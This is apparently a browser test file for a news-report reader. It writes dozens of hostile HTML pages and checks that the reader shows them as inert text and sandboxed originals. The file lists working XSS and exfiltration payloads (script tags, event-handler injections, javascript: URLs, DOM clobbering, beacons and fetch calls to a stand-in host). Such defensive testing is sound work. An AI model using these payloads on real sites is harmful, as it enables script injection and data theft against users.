// Reports are hostile input. Pages made to run script, to call out, and to reach
// the page around them are added; in the reading view and as originals they must
// stay text and pictures of text.
//
//   tests/page/hostile.mjs PROGRAM SOURCE_FOLDER
import { writeFileSync, mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { expect, expectNone, open, outside, run } from "./browser.mjs";

const CALL = "http://hostile.example/";  // Where outside() listens.
const act = "top.hacked=1;parent.hacked=1;window.hacked=1;fetch('" + CALL + "script')";
const PAYLOADS = [
  `<script>${act}</script>`,
  `<script src="${CALL}a.js"></script>`,
  `<img src=x onerror="${act}">`,
  `<img src="${CALL}beacon.png">`,
  `<img srcset="${CALL}a.png 1x, ${CALL}b.png 2x">`,
  `<picture><source srcset="${CALL}p.webp"><img alt=""></picture>`,
  `<svg onload="${act}"><script>${act}</script></svg>`,
  `<svg><image href="${CALL}i.svg"/><use href="${CALL}u.svg#a"/></svg>`,
  `<svg><a xlink:href="javascript:${act}"><text>click</text></a><animate attributeName="href" values="javascript:${act}"/></svg>`,
  `<math><maction actiontype="statusline#${CALL}">x</maction><mtext><script>${act}</script></mtext></math>`,
  `<body onload="${act}">`,
  `<input autofocus onfocus="${act}">`,
  `<details open ontoggle="${act}"><summary>x</summary></details>`,
  `<video autoplay src="${CALL}v.mp4" poster="${CALL}v.png" onerror="${act}"></video>`,
  `<audio autoplay src="${CALL}a.mp3"></audio>`,
  `<iframe src="javascript:${act}"></iframe>`,
  `<iframe srcdoc="<script>${act}</script><img src=${CALL}f.png>"></iframe>`,
  `<iframe src="${CALL}frame"></iframe>`,
  `<object data="${CALL}o.swf"></object><embed src="${CALL}e.swf">`,
  `<link rel="stylesheet" href="${CALL}s.css"><link rel="preload" as="image" href="${CALL}p.png"><link rel="prefetch" href="${CALL}n">`,
  `<link rel="dns-prefetch" href="${CALL}"><link rel="icon" href="${CALL}f.ico"><link rel="manifest" href="${CALL}m.json">`,
  `<style>@import url("${CALL}i.css"); body{background:url(${CALL}bg.png)} @font-face{font-family:x;src:url(${CALL}f.woff)} *{font-family:x}</style>`,
  `<p style="background:url(${CALL}p.png);position:fixed;inset:0">covered</p>`,
  `<meta http-equiv="refresh" content="0;url=${CALL}refresh">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  `<base href="${CALL}"><a href="next">next</a>`,
  `<form action="${CALL}form" id="f"><input name="a" value="b"></form><script>f.submit()</script>`,
  `<form id="page"></form><img name="getElementById"><a id="defaultView"></a><form name="document"></form>`,
  `<noscript><p title="</noscript><img src=x onerror='${act}'>"></noscript>`,
  `<template><script>${act}</script></template><textarea></textarea><img src=x onerror="${act}">`,
  `<title>&lt;/title&gt;<img src=x onerror="${act}"></title>`,
  `<a href="javascript:${act}">soldiers</a><a href="data:text/html,<script>${act}</script>" target="_top">tanks</a>`,
  `<button popovertarget="p" formaction="javascript:${act}">go</button><div popover id="p">pop</div>`,
  `<marquee onstart="${act}">x</marquee><isindex onfocus="${act}">`,
  `<xmp><img src=x onerror="${act}"></xmp><plaintext><script>${act}</script>`,
];

let world;
let hearsay;
let page;
let reports;
const folder = mkdtempSync(join(tmpdir(), "hearsay-hostile-"));

await run([
  [`${PAYLOADS.length} hostile pages are read`, async () => {
    PAYLOADS.forEach((payload, index) => {
      writeFileSync(
        join(folder, `${String(index).padStart(2, "0")}.html`),
        `<!doctype html><html><head><title>Marker ${index} &lt;img src=x onerror=top.hacked=1&gt;</title></head><body><article><h1>Marker ${index}</h1>` +
          `<p>At least ${index + 10} soldiers were killed in Port Mirel on 3 March 2026, a hospital official said.</p>${payload}` +
          `<p>The words &lt;script&gt;top.hacked=1&lt;/script&gt; and &lt;img src=x onerror="top.hacked=1"&gt; stand here as words.</p></article></body></html>`,
      );
    });
    world = await outside();
    hearsay = await open({ reports: [folder], world });
    page = await hearsay.page();
    reports = await page.evaluate(async () => (await (await fetch("/reports.json?limit=500")).json()).items);
    expect(`all ${PAYLOADS.length} in the ledger, not ${reports.length}`, reports.length === PAYLOADS.length);
  }],
  ["in the reading view they are text", async () => {
    for (const report of reports) {
      await page.goto(`${hearsay.address}reports/${report.id}`);
      const text = page.locator(".text");
      await text.waitFor();
      const shown = await text.textContent();
      expect(`the report's words in ${report.id}`, shown.includes("hospital official"));
      const strange = await text.evaluate((root) => [...root.querySelectorAll("*")].filter((one) => !["DIV", "SPAN"].includes(one.tagName)).map((one) => one.tagName));
      expectNone(`elements of a report in the page (${report.id})`, strange);
      expect(`nothing to run in ${report.id}`, (await page.evaluate(() => globalThis.hacked)) === undefined);
    }
  }],
  ["as originals they show, and do nothing", async () => {
    let shown = 0;
    for (const report of reports) {
      await page.goto(`${hearsay.address}reports/${report.id}?original=1`);
      const answer = page.waitForResponse((response) => response.url().endsWith("/original"));
      await page.reload();
      const response = await answer;
      expect(`the original of ${report.id} to be served`, response.status() === 200);
      expect("the policy of originals", (response.headers()["content-security-policy"] ?? "").startsWith("sandbox; default-src 'none'"));
      await page.waitForTimeout(120);
      const frame = page.frames().find((one) => one.url().endsWith("/original"));
      if (frame) {
        const words = await frame.evaluate(() => document.documentElement.textContent).catch(() => "");
        if (words.includes("hospital official")) shown += 1;
      }
      expect(`nothing to run in ${report.id}`, (await page.evaluate(() => globalThis.hacked)) === undefined);
      expect("the page to be still there", (await page.locator(".text").count()) === 1);
    }
    expect(`originals to be shown, not only ${shown}`, shown >= PAYLOADS.length - 2);
  }],
  ["opened by itself, an original does nothing either", async () => {
    for (const report of reports) {
      await page.goto(`${hearsay.address}reports/${report.id}/original`).catch(() => {});
      await page.waitForTimeout(60);
      expect(`${report.id} to stay here`, new URL(page.url()).origin === new URL(hearsay.address).origin);
    }
  }],
  ["nobody else was asked for anything", () => expectNone("requests", world.asked)],
  ["and the same pages do ask where nothing holds them", async () => {
    const bare = await page.context().newPage();
    await bare.goto(`${CALL}control`);
    await bare.setContent(PAYLOADS[3] + PAYLOADS[19] + PAYLOADS[0], { waitUntil: "load" });
    await bare.waitForTimeout(300);
    const found = world.asked.filter((one) => !one.endsWith("/control"));
    expect(`a beacon, a style sheet and a script to call out, not ${found}`, ["/beacon.png", "/s.css", "/script"].every((end) => found.some((one) => one.endsWith(end))));
  }],
]);
await hearsay?.close();
world?.close();
rmSync(folder, { recursive: true, force: true });
